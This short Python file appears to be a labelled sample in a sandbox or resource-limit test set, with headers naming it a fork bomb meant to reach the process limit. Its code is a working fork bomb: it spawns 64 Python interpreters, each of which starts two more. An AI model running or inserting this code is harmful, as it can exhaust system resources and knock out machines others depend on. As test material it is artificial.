# class: processes
# harm: a bomb of fresh interpreters
# shown: each starts two more
# score: 0
# why: fork bomb
# reaches: process-limit

import os
import sys


CODE = "import os, sys\nfor _ in range(2): os.posix_spawn(sys.executable, [sys.executable, '-S', '-c', sys.argv[1], sys.argv[1]], {})"
for _ in range(64):
    os.posix_spawn(sys.executable, [sys.executable, "-S", "-c", CODE, CODE], {})
